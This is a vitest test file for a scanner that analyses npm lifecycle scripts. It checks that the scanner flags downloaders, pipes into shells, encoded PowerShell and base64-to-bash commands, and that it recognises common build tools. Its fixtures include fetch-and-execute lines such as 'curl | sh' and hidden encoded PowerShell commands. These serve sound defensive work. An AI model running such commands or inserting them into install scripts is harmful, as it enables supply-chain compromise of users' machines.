import { describe, expect, it } from 'vitest';
import { analyseLifecycleScript } from './lifecycle.js';

describe('analyseLifecycleScript', () => {
  describe('when the script downloads', () => {
    it.each([
      ['curl -fsSL https://x.example.invalid/a.sh | sh', 'curl'],
      ['wget -qO- http://x.example.invalid/a | bash', 'wget'],
      ['certutil -urlcache -split -f http://x.example.invalid/a.exe a.exe', 'certutil'],
      ['bitsadmin /transfer job http://x.example.invalid/a.exe C:\\a.exe', 'bitsadmin'],
      [
        'powershell -c "Invoke-WebRequest -Uri https://x.example.invalid/a -OutFile a"',
        'powershell:invoke-webrequest',
      ],
      [
        'pwsh -c "(New-Object Net.WebClient).DownloadString(\'https://x.example.invalid\')"',
        'powershell:net.webclient',
      ],
    ])('names the downloader of %s', (script, tool) => {
      const analysis = analyseLifecycleScript(script);
      expect(analysis.downloads.map((download) => download.tool)).toContain(tool);
      expect(analysis.urls.length).toBeGreaterThan(0);
    });

    it('records the pipe into a shell', () => {
      expect(analyseLifecycleScript('curl -s https://x.example.invalid | sh').pipesToInterpreter).toEqual([
        { from: 'curl', interpreter: 'sh' },
      ]);
    });

    it('does not take `| node script.js` for running stdin', () => {
      expect(analyseLifecycleScript('cat a | node filter.js').pipesToInterpreter).toEqual([]);
    });
  });

  describe('when the script runs an encoded shell', () => {
    it.each([
      'powershell -enc SQBFAFgA',
      'powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgA',
      'pwsh -e SQBFAFgA',
      'powershell -ec SQBFAFgA',
    ])('sees %s', (script) => {
      expect(analyseLifecycleScript(script).encodedShells[0]).toMatchObject({
        form: 'powershell-encoded',
        payloadChars: 8,
      });
    });

    it('sees base64 decoded into a shell', () => {
      const analysis = analyseLifecycleScript('echo Y3VybCB4 | base64 -d | bash');
      expect(analysis.encodedShells).toEqual([{ form: 'base64-to-interpreter', payloadChars: 8 }]);
    });

    it('does not take -ExecutionPolicy or -NoProfile for an encoded command', () => {
      expect(
        analyseLifecycleScript('powershell -ExecutionPolicy Bypass -NoProfile -File build.ps1').encodedShells,
      ).toEqual([]);
    });
  });

  describe('when the script runs node', () => {
    it('names the file as install-time code, skipping options', () => {
      expect(
        analyseLifecycleScript('node --require ./hook.js ./scripts/setup.js --flag').nodeScripts,
      ).toEqual(['scripts/setup.js']);
    });

    it('takes inline code that reaches the network for a download', () => {
      const analysis = analyseLifecycleScript(
        `node -e "require('https').get('https://x.example.invalid/p', (r) => r.pipe(process.stdout))"`,
      );
      expect(analysis.downloads).toEqual([{ tool: 'node-inline:https', url: 'https://x.example.invalid/p' }]);
    });

    it('keeps inline code apart', () => {
      const analysis = analyseLifecycleScript(`node -e "require('./x')"`);
      expect(analysis.nodeScripts).toEqual([]);
      expect(analysis.inlineCode).toEqual(["require('./x')"]);
    });
  });

  describe('when the script is a well-known build step', () => {
    it.each([
      ['node-gyp rebuild', 'node-gyp', undefined],
      ['prebuild-install || node-gyp rebuild', 'prebuild-install', undefined],
      ['node-gyp-build', 'node-gyp-build', undefined],
      ['node install.js', 'esbuild-install', 'esbuild'],
      ['node install/check', 'sharp-install', 'sharp'],
      ['husky install', 'husky', undefined],
      ['npx husky', 'husky', undefined],
      ['patch-package', 'patch-package', undefined],
      ['node-pre-gyp install --fallback-to-build', 'node-pre-gyp', undefined],
    ])('recognises %s', (script, tool, packageName) => {
      const analysis = analyseLifecycleScript(script, packageName);
      expect(analysis.knownTools).toContain(tool);
      expect(analysis.downloads).toEqual([]);
    });

    it('does not take `node install.js` of another package for esbuild', () => {
      expect(analyseLifecycleScript('node install.js', 'example-colors').knownTools).toEqual([]);
    });
  });
});
